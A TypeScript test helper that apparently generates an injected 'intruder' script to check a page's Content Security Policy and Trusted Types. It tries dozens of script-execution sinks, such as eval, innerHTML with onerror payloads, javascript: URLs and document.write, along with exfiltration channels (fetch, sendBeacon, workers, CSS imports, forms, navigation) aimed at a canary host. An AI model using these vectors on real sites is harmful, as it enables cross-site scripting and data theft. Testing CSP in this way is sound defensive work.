/** What a foreign script that has got into the page may use. */
function tools(canary: string): string {
  return `
  globalThis.pwnedTimes = 0;
  globalThis.pwned = () => { globalThis.pwnedTimes += 1; };
  const url = (name) => ${JSON.stringify(canary)} + '/' + name;
  const put = (tag, fields = {}, parent = document.body) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(fields)) made.setAttribute(name, value);
    parent.append(made);
    return made;
  };
  const svg = (tag, href) => {
    const root = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const made = document.createElementNS('http://www.w3.org/2000/svg', tag);
    made.setAttribute('href', href);
    root.append(made);
    document.body.append(root);
  };
  /** Rejects with the first error an element or request reports. */
  const failing = (target) => new Promise((_, fail) => target.addEventListener('error', () => fail(new Error('load failed'))));
`;
}

/**
 * A foreign script that has got into the page: it tries the ways out of it, one after the other. For each it notes why
 * it was refused, or `got through` after `patienceMs`.
 */
export function intruder(canary: string, patienceMs: number): string {
  return `${tools(canary)}
  const attacks = {
    'eval': () => eval('globalThis.pwned()'),
    'indirect eval': () => (0, eval)('globalThis.pwned()'),
    'new Function': () => new Function('globalThis.pwned()')(),
    'setTimeout of a text': () => setTimeout('globalThis.pwned()'),
    'innerHTML': () => { put('div').innerHTML = '<img src=x onerror=globalThis.pwned()>'; },
    'outerHTML': () => { put('div').outerHTML = '<img src=x onerror=globalThis.pwned()>'; },
    'insertAdjacentHTML': () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
    'createContextualFragment': () => document.createRange().createContextualFragment('<b>x</b>'),
    'DOMParser': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'setHTMLUnsafe': () => put('div').setHTMLUnsafe('<b>x</b>'),
    'a policy of its own': () => trustedTypes.createPolicy('default', { createHTML: (text) => text }),
    'script with a text': () => { const s = document.createElement('script'); s.append('globalThis.pwned()'); document.body.append(s); },
    'script with textContent': () => { document.createElement('script').textContent = 'globalThis.pwned()'; },
    'script with an address': () => { document.createElement('script').src = url('script'); },
    'script with a wrong nonce': () => { const s = document.createElement('script'); s.nonce = 'guess'; s.setAttribute('src', url('nonce')); document.body.append(s); },
    'import': () => import(url('import-script')),
    'svg script': () => svg('script', url('svg-script')),
    'inline handler': () => put('img', { src: 'data:,', onerror: 'globalThis.pwned()' }),
    'javascript: link': () => put('a', { href: 'javascript:globalThis.pwned()' }).click(),
    'javascript: location': () => { location.href = 'javascript:globalThis.pwned()'; },
    'javascript: frame': () => put('iframe', { src: 'javascript:parent.pwned()' }),
    'frame with srcdoc': () => put('iframe', { srcdoc: '<script>parent.pwned()</' + 'script>' }),
    'fetch': () => fetch(url('fetch'), { mode: 'no-cors' }),
    'fetch with keepalive': () => fetch(url('keepalive'), { method: 'POST', mode: 'no-cors', keepalive: true }),
    'XMLHttpRequest': () => { const x = new XMLHttpRequest(); x.open('GET', url('xhr')); x.send(); return failing(x); },
    'WebSocket': () => failing(new WebSocket(url('socket').replace('http', 'ws'))),
    'EventSource': () => failing(new EventSource(url('events'))),
    'sendBeacon': () => navigator.sendBeacon(url('beacon'), 'x'),
    'Worker': () => new Worker(url('worker')),
    'Worker of a blob': () => failing(new Worker(URL.createObjectURL(new Blob(['fetch("' + url('blob') + '")'])))),
    'SharedWorker': () => new SharedWorker(url('shared')),
    'service worker': () => navigator.serviceWorker.register(url('service')),
    'paint worklet': () => CSS.paintWorklet.addModule(url('paint')),
    'audio worklet': () => new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url('worklet')),
    'image': () => { const i = new Image(); i.src = url('image'); return failing(i); },
    'image srcset': () => { const i = new Image(); i.srcset = url('srcset') + ' 2x'; return failing(i); },
    'svg image': () => svg('image', url('svg-image')),
    'video': () => failing(put('video', { src: url('video') })),
    'video poster': () => put('video', { poster: url('poster') }),
    'audio': () => failing(put('audio', { src: url('audio') })),
    'frame': () => put('iframe', { src: url('frame') }),
    'object': () => put('object', { data: url('object') }),
    'embed': () => put('embed', { src: url('embed') }),
    'style with @import': () => { put('style').append('@import url("' + url('import') + '");'); },
    'style attribute': () => put('div', { style: 'background: url(' + url('attribute') + ')' }),
    'style property': () => { put('div').style.backgroundImage = 'url(' + url('property') + ')'; },
    'adopted style sheet': () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync('#app { background: url(' + url('adopted') + ') }');
      document.adoptedStyleSheets.push(sheet);
    },
    'style sheet': () => put('link', { rel: 'stylesheet', href: url('sheet') }, document.head),
    'font': () => new FontFace('x', 'url(' + url('font') + ')').load(),
    'link prefetch': () => failing(put('link', { rel: 'prefetch', href: url('prefetch') }, document.head)),
    'link preload': () => failing(put('link', { rel: 'preload', as: 'image', href: url('preload') }, document.head)),
    'link modulepreload': () => failing(put('link', { rel: 'modulepreload', href: url('module') }, document.head)),
    'speculation rules': () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{}'; },
    'link with ping': () => put('a', { href: '#x', ping: url('ping') }).click(),
    'a softer policy': () => { put('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' }, document.head); return fetch(url('softer')); },
    'base': () => put('base', { href: url('base') }, document.head),
    // Last, since it would empty the page.
    'document.write': () => document.write('<script>globalThis.pwned()</' + 'script>'),
  };
  let refusals = [];
  let name = '';
  // Some come late; those that name an address belong to the attack that asked for it.
  document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
    if (!/^(http|ws)/.test(blockedURI) || attacks[name].toString().includes(new URL(blockedURI).pathname.slice(1))) {
      refusals.push(effectiveDirective);
    }
  });
  const refused = async () => {
    while (refusals.length === 0) await new Promise((next) => setTimeout(next, 5));
    return refusals[0];
  };
  const failed = async (attack) => {
    try {
      await attack();
    } catch (error) {
      return error.name;
    }
    return new Promise(() => {});
  };
  globalThis.outcomes = {};
  (async () => {
    for (name of Object.keys(attacks)) {
      refusals = [];
      const waited = new Promise((done) => setTimeout(() => done('got through'), ${patienceMs}));
      globalThis.outcomes[name] = await Promise.race([failed(attacks[name]), refused(), waited]);
    }
    globalThis.isDone = true;
  })();`;
}

/** Ways out that would take the page away. The browser says in its console that it refused them. */
export const departures: Readonly<Record<string, string>> = {
  location: `location.href = url('location')`,
  'location of the window above': `window.top.location.href = url('top')`,
  'meta refresh': `put('meta', { 'http-equiv': 'refresh', content: '0;url=' + url('refresh') }, document.head)`,
  form: `put('form', { action: url('form') }).submit()`,
  'form in a new window': `put('form', { action: url('form'), target: '_blank', method: 'post' }).submit()`,
  'window.open': `window.open(url('open'))`,
  'link in a new window': `put('a', { href: url('blank'), target: '_blank' }).click()`,
  link: `put('a', { href: url('link') }).click()`,
  'svg use': `svg('use', url('use.svg#x'))`,
};

export function departure(canary: string, code: string): string {
  return `${tools(canary)}\n${code};`;
}
